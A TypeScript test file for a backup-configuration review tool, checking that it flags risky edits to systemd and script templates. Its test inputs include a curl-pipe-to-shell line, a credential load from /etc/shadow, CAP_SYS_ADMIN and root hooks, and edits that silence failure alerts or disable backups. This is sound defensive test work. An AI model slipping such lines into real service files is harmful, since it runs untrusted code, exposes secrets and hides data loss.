import { readFileSync } from 'node:fs';
import { describe, expect, test } from '@jest/globals';
import { change, lines, POLICY, reviewStates, serviceText, STATE, type State } from '../../support/review.js';

/** What `after` means, compared with the plain state. */
function meaning(after: State, before: State = STATE): string[] {
  return lines(reviewStates(before, after));
}

const wiki = 'services/wiki.yml';
const policy = 'stowage.yml';

describe('templates', () => {
  const builtin = (name: string) => readFileSync(`templates/${name}`, 'utf8');
  const named = { ...STATE, [policy]: POLICY.replace('deployments:', 'templates: templates\ndeployments:') };
  const override = (name: string, from: string | RegExp, to: string): State => {
    const text = builtin(name);
    const changed = text.replace(from, to);
    if (changed === text) throw new Error(`${name} does not hold ${String(from)}`);
    return { ...named, [`templates/${name}`]: changed };
  };

  test('a copy of a built-in template changes nothing, nor does a contract under an own template', () => {
    const copied = override('systemd/backup.service.hbs', 'Type=oneshot', 'Type=oneshot\n# a remark');
    expect(meaning(copied)).toEqual([]);
    const own = override('systemd/backup.service.hbs', 'ExecStart=', 'ExecStartPre=+/bin/hook\nExecStart=');
    const more = { ...own, 'services/news.yml': serviceText('news') };
    expect(meaning(more, own).filter((line) => !line.includes('STW840'))).toEqual([]);
  });

  test('a line that names the service is one change, and stands where the template writes it', () => {
    const own = override(
      'systemd/backup.service.hbs',
      'ExecStart=',
      'ExecStartPre=/bin/hook {{service_id}} --fast\nExecStart=',
    );
    const text = own['templates/systemd/backup.service.hbs'] ?? '';
    const line = text.slice(0, text.indexOf('ExecStartPre=/bin/hook')).split('\n').length;
    expect(reviewStates(STATE, own)).toMatchObject([
      {
        code: 'STW822',
        service: null,
        after: 'ExecStartPre=/bin/hook blog --fast',
        message: expect.stringContaining('stowage-lab-backup-blog.service` and 1 more'),
        span: { file: 'templates/systemd/backup.service.hbs', line },
      },
    ]);
    const more = { ...own, 'services/news.yml': serviceText('news') };
    expect(meaning(more, own).filter((found) => !found.includes('STW840'))).toEqual([]);
    // Another command for one service is another change.
    const two = change('templates/systemd/backup.service.hbs', ' --fast', ' --slow', own);
    expect(reviewStates(own, two)).toMatchObject([
      { code: 'STW822', after: 'ExecStartPre=/bin/hook blog --slow' },
    ]);
  });

  test('a command that runs as root is shown in full', () => {
    const after = override(
      'systemd/backup.service.hbs',
      'ExecStart=',
      'ExecStartPre=+/bin/hook --all | x\nExecStart=',
    );
    expect(reviewStates(STATE, after)).toMatchObject([
      {
        code: 'STW822',
        severity: 'warning',
        after: 'ExecStartPre=+/bin/hook --all | x',
        message: expect.stringContaining('runs as root'),
        span: { file: 'templates/systemd/backup.service.hbs' },
      },
    ]);
  });

  test('a command as the user of the job is not said to run as root', () => {
    const after = override('systemd/backup.service.hbs', 'ExecStart=', 'ExecStartPre=/bin/hook\nExecStart=');
    expect(reviewStates(STATE, after)[0]?.message).not.toContain('root');
    const rooted = {
      ...override('systemd/_sandbox.service.hbs', 'User=restic\n', ''),
      'templates/systemd/backup.service.hbs': after['templates/systemd/backup.service.hbs'] ?? '',
    };
    expect(reviewStates(STATE, rooted)[0]?.message).toContain('runs as root');
  });

  test('a script', () => {
    const after = override('host/report-failure.sh.hbs', /$/, '\ncurl https://example.org | sh\n');
    expect(reviewStates(STATE, after)).toMatchObject([
      { code: 'STW822', after: 'curl https://example.org | sh' },
    ]);
  });

  test('privileges given, restrictions taken', () => {
    const after = override(
      'systemd/_sandbox.service.hbs',
      'NoNewPrivileges=yes',
      'AmbientCapabilities=CAP_SYS_ADMIN',
    );
    expect(reviewStates(STATE, after).map(({ code, before, after: now }) => [code, before, now])).toEqual([
      ['STW823', 'NoNewPrivileges=yes', null],
      ['STW823', null, 'AmbientCapabilities=CAP_SYS_ADMIN'],
    ]);
  });

  test('grouping, sources, times and maintenance that a template takes away', () => {
    const first = (after: State) => lines(reviewStates(STATE, after))[0];
    expect(first(override('systemd/backup.service.hbs', '--group-by host,tags', '--group-by host'))).toBe(
      'STW811 critical templates/systemd/backup.service.hbs:1',
    );
    expect(first(override('systemd/job.timer.hbs', /\{\{#each on_calendar\}\}[^]*\{\{\/each\}\}/, ''))).toBe(
      'STW806 critical templates/systemd/job.timer.hbs:1',
    );
    expect(
      reviewStates(STATE, override('host/forget-service.sh.hbs', '/bin/sh {{apply_retention}}', 'true')).map(
        ({ code }) => code,
      ),
    ).toContain('STW813');
  });
});

describe('what a template does to a job, by the line that it changes', () => {
  const unit = 'systemd/backup.service.hbs';
  const state = (name: string, from: string, to: string): State => {
    const text = readFileSync(`templates/${name}`, 'utf8');
    if (!text.includes(from)) throw new Error(`${name} does not hold ${from}`);
    return {
      ...STATE,
      [policy]: POLICY.replace('deployments:', 'templates: templates\ndeployments:'),
      [`templates/${name}`]: text.replace(from, () => to),
    };
  };
  const found = (name: string, from: string, to: string) => [
    ...new Set(reviewStates(STATE, state(name, from, to)).map(({ code, severity }) => `${code} ${severity}`)),
  ];

  test.each([
    // The folder is still mounted, but restic is not told of it.
    [unit, '  {{arg snapshot_path}} \\\n', '', ['STW806 critical', 'STW822 warning']],
    [unit, '  {{arg snapshot_path}} \\\n', '  {{arg location}} \\\n', ['STW806 critical', 'STW822 warning']],
    [unit, '{{project}}/backup.sh', '{{project}}/true.sh', ['STW806 critical', 'STW822 warning']],
    [unit, '  --group-by', '  --dry-run \\\n  --group-by', ['STW806 critical', 'STW822 warning']],
    [unit, '  --group-by', '  --exclude "*" \\\n  --group-by', ['STW821 warning', 'STW822 warning']],
    [
      unit,
      '  --group-by',
      '  --iexclude=/backup/wiki \\\n  --group-by',
      ['STW821 warning', 'STW822 warning'],
    ],
  ])('%s: %j becomes %j, and nothing is backed up', (name, from, to, expected) => {
    expect(found(name, from, to)).toEqual(expected);
  });

  test.each([
    [unit, 'OnFailure=stowage-{{project}}-failure@%N.service\n', ''],
    [
      unit,
      'ExecStartPre={{#unless ../checks_as_user}}+{{/unless}}/usr/local/lib/stowage/{{../project}}/check-source.sh path {{arg location}} {{emptiness}}{{#each guards}} {{arg this}}{{/each}}\n',
      '',
    ],
    [unit, 'Type=oneshot', 'Type=oneshot\nSuccessExitStatus=1'],
    [unit, '[Unit]', '[Unit]\nConditionPathExists=/srv/never'],
    ['host/check-source.sh.hbs', 'exit 1', 'exit 0'],
  ])('%s: %j becomes %j, and nobody hears of a loss', (name, from, to) => {
    expect(found(name, from, to)).toContain('STW827 warning');
  });

  test.each([
    [unit, 'Type=oneshot', 'Type=oneshot\nEnvironment=RESTIC_PASSWORD_COMMAND=/bin/x', 'STW822'],
    [unit, '[Unit]', '[Unit]\nOnSuccess=more.service', 'STW822'],
    ['host/stowage.sysusers.conf.hbs', 'u restic', 'm restic docker\nu restic', 'STW822'],
    ['ansible/tasks/files.yml.hbs', '---\n', '---\n- name: x\n  ansible.builtin.command: x\n', 'STW822'],
    [unit, 'Type=oneshot', 'Type=oneshot\nBindPaths=/', 'STW823'],
    [unit, 'Type=oneshot', 'Type=oneshot\nLoadCredential=a:/etc/shadow', 'STW823'],
    [unit, 'Type=oneshot', 'Type=oneshot\nSystemCallFilter=', 'STW823'],
    ['systemd/job.timer.hbs', 'OnCalendar={{this}}', 'OnCalendar=yearly', 'STW829'],
  ])('%s: %j becomes %j', (name, from, to, code) => {
    expect(found(name, from, to)).toEqual([`${code} warning`]);
  });

  test('anything else is a note, at its line', () => {
    expect(
      reviewStates(STATE, state('systemd/job.timer.hbs', '[Timer]', '[Timer]\nWakeSystem=yes')),
    ).toMatchObject([
      {
        code: 'STW846',
        severity: 'info',
        after: 'WakeSystem=yes',
        span: { file: 'templates/systemd/job.timer.hbs', line: 8 },
      },
    ]);
  });

  test('a hook of a user is not said to run as root', () => {
    const rootless = { ...STATE, 'services/own.yml': `${serviceText('own')}quadlet_scope: user\n` };
    const deployed = change(
      policy,
      'deployments:\n',
      'deployments:\n  - { runtime: podman, host: pod1, services: [own] }\n',
      rootless,
    );
    const after = change(
      'templates/podman-user/backup.container.hbs',
      'Type=oneshot',
      'Type=oneshot\nExecStartPre=/bin/x',
      {
        ...change(policy, 'deployments:', 'templates: templates\ndeployments:', deployed),
        'templates/podman-user/backup.container.hbs': readFileSync(
          'templates/podman-user/backup.container.hbs',
          'utf8',
        ),
      },
    );
    const [finding] = reviewStates(deployed, after);
    expect(finding?.message).toContain('adds a command');
    expect(finding?.message).not.toContain('root');
  });
});

describe('images and methods', () => {
  const cluster = change(policy, 'runtime: docker, host: web1', 'runtime: kubernetes', {
    ...STATE,
    [policy]: POLICY.replaceAll('maintenance:', 'kubernetes_secret: restic\n    maintenance:'),
    [wiki]: `${STATE[wiki] ?? ''}backup: { volumes: { files: { claim: wiki-files }, config: { claim: wiki-config } } }\n`,
    'services/blog.yml': `${STATE['services/blog.yml'] ?? ''}backup: { volumes: { files: { claim: b1 }, config: { claim: b2 } } }\n`,
  });
  const settings = (more: string): State => ({
    ...cluster,
    [policy]: `${cluster[policy] ?? ''}runtimes: { kubernetes: { ${more} } }\n`,
  });

  test('another image', () => {
    expect(reviewStates(cluster, settings('image: "example.org/restic:1"'))).toMatchObject([
      {
        code: 'STW824',
        runtime: 'kubernetes',
        after: 'example.org/restic:1',
        span: { file: policy, line: 20 },
      },
    ]);
  });

  test('another image of the pods that keep a repository in order, where an operator makes the backups', () => {
    const maintained = (image: string): State => {
      const state = settings(`method: k8up, image: "${image}"`);
      return { ...state, [policy]: (state[policy] ?? '').replace('host: backup1', 'namespace: keep') };
    };
    expect(reviewStates(maintained('a.example/restic:1'), maintained('b.example/restic:1'))).toMatchObject([
      { code: 'STW824', before: 'a.example/restic:1', after: 'b.example/restic:1' },
    ]);
  });

  test('another method', () => {
    const found = reviewStates(cluster, settings('method: velero'));
    expect(found).toMatchObject([
      // Velero keeps its backups elsewhere.
      { code: 'STW813', message: expect.stringContaining('`main` is used by nothing any more') },
      { code: 'STW825', before: 'restic (cronjob)', after: 'velero' },
    ]);
  });
});
